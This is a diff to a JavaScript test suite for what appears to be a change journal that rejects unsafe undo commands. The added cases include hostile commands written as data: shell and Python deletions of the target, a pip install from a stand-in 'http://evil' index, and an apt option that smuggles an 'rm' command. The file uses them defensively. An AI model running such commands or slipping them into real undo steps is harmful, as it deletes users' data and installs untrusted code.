@@ -255,6 +255,13 @@ describe('a hostile environment journal', () => {
       { kind: 'rc-line', target, before: null, after: 'precious\n', line: 'precious', why: 'x' },
       { kind: 'ldconfig', target: 'ld.so.cache', before: null, after: null, command: { file: '/bin/sh', args: ['-c', `rm ${target}`] }, why: 'x' },
       { kind: 'ldconfig', target: 'ld.so.cache', before: null, after: null, command: { file: 'ldconfig', args: ['-C', target] }, why: 'x' },
+      // A package manager's way back may only be that manager going back to a recorded state.
+      { kind: 'package', target: '/home/me/miniconda3/envs/tf', before: 'rev 0', after: null, undo: { file: '/bin/sh', args: ['-c', `rm ${target}`] }, why: 'x' },
+      { kind: 'package', target: '/home/me/miniconda3/envs/tf', before: 'rev 0', after: null, undo: { file: 'conda', args: ['run', '-p', '/home/me/miniconda3/envs/tf', 'rm', target] }, why: 'x' },
+      { kind: 'package', target: '/home/me/miniconda3/envs/tf', before: 'rev 0', after: null, undo: { file: 'conda', args: ['install', '--yes', '-p', '/other/env', '--revision', '0'] }, why: 'x' },
+      { kind: 'package', target: '/venv/bin/python', before: 'x==1', after: null, undo: { file: '/venv/bin/python', args: ['-c', `import os; os.remove('${target}')`] }, why: 'x' },
+      { kind: 'package', target: '/venv/bin/python', before: 'x==1', after: null, undo: { file: '/venv/bin/python', args: ['-m', 'pip', 'install', '--index-url', 'http://evil', 'x==1'] }, why: 'x' },
+      { kind: 'package', target: 'apt', before: 'libcudnn8=8.5', after: null, undo: { file: 'apt-get', args: ['install', '-y', 'libcudnn8=8.5', '-o', `APT::Update::Pre-Invoke::=rm ${target}`] }, why: 'x' },
     ];
     for (const change of cases) {
       const { file } = await journal([{ at: '2026-01-01T00:00:00Z', state: 'applied', change }]);
